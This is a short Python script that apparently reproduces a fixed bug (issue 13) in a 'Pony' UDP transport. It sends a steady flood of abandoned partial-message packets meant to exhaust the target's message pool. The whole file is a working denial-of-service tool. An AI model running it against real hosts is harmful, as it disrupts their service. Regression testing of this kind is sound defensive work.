#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""A third host attacking a Pony port (issue 13), from the Linux stack.

  pony_attacker.py partials DST [--count N]
      N DATA packets (default 5000), each the 1-byte first piece of a new
      64 KiB message abandoned by its sender (SKIP: no endpoint involved),
      never finished: they used to fill the target's whole message pool.

Speaks the wire format of transport/pony/pony_wire.h (version 3): a
24-byte header, then the 28-byte DATA extension, big-endian. Prints how
many packets went out and how many the target answered (ACKs).
"""
import argparse
import socket
import struct
import sys
import time

PONY_VERSION = 3
T_DATA = 1
F_SKIP = 1 << 1
HDR = struct.Struct("!BBHIIIQ")        # ver type flags src_epoch dst_epoch psn ts_ns
DATA = struct.Struct("!IIIIIHHHH")     # msg_id stream seq msg_len off src_svc dst_svc seg_len rsvd


def partials(sock, dst, count):
    epoch = 0x1234567
    for i in range(count):
        h = HDR.pack(PONY_VERSION, T_DATA, F_SKIP, epoch, 0, i, time.monotonic_ns())
        d = DATA.pack(i, i // 256, i % 256, 65536, 0, 1, 2, 1, 0)
        sock.sendto(h + d, dst)
        if i % 64 == 63:
            time.sleep(0.001)  # af_packet's RX ring is small; be a steady flood


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("what", choices=["partials"])
    ap.add_argument("dst")
    ap.add_argument("--port", type=int, default=7400)
    ap.add_argument("--count", type=int, default=5000)
    a = ap.parse_args()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", a.port))  # the target answers to its own Pony port
    dst = (a.dst, a.port)
    partials(s, dst, a.count)
    s.settimeout(0.5)
    acks = 0
    try:
        while True:
            s.recv(2048)
            acks += 1
    except socket.timeout:
        pass
    print(f"pony_attacker: {a.count} packets sent, {acks} answers")
    return 0


if __name__ == "__main__":
    sys.exit(main())
